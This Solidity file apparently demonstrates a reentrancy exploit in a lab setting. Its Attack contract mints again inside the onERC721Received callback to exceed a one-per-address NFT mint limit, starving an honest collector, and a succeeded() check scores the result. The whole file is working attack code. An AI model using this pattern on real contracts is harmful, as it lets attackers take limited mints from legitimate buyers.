// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ITarget {
    function mint() external;
    function minted() external view returns (uint256);
    function PIECES() external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
}

/// @notice An honest collector, who mints one piece.
contract Collector {
    function mint(ITarget target) external {
        target.mint();
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }
}

/// @notice A collector that mints again while it is asked whether it can hold a piece.
contract Attack {
    ITarget private immutable _target;
    Collector private immutable _alice = new Collector();
    Collector private immutable _bob = new Collector();
    Collector private immutable _carol = new Collector();
    uint256 private _left;

    constructor(address target) payable {
        _target = ITarget(target);
        _alice.mint(_target);
        _bob.mint(_target);
    }

    /// @param parameter How often the attacker mints again inside a mint.
    function attack(uint256 parameter) external {
        _left = parameter;
        try _target.mint() { } catch { }
        try _carol.mint(_target) { } catch { }
    }

    /// @dev The collection asks for this during a mint.
    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (_left > 0) {
            _left--;
            try _target.mint() { } catch { }
        }
        return this.onERC721Received.selector;
    }

    function rows() external view returns (string[] memory names, uint256[] memory amounts) {
        names = new string[](4);
        amounts = new uint256[](4);
        (names[0], amounts[0]) = ("Pieces left to mint", (_target.PIECES() - _target.minted()) * 1 ether);
        (names[1], amounts[1]) =
        ("Pieces Alice and Bob hold", (_target.balanceOf(address(_alice)) + _target.balanceOf(address(_bob))) * 1 ether);
        (names[2], amounts[2]) = ("Pieces Carol holds", _target.balanceOf(address(_carol)) * 1 ether);
        (names[3], amounts[3]) = ("Pieces the attacker holds", _target.balanceOf(address(this)) * 1 ether);
    }

    /// @return The attacker holds more than the one piece that each address may mint.
    function succeeded() external view returns (bool) {
        return _target.balanceOf(address(this)) > 1;
    }
}
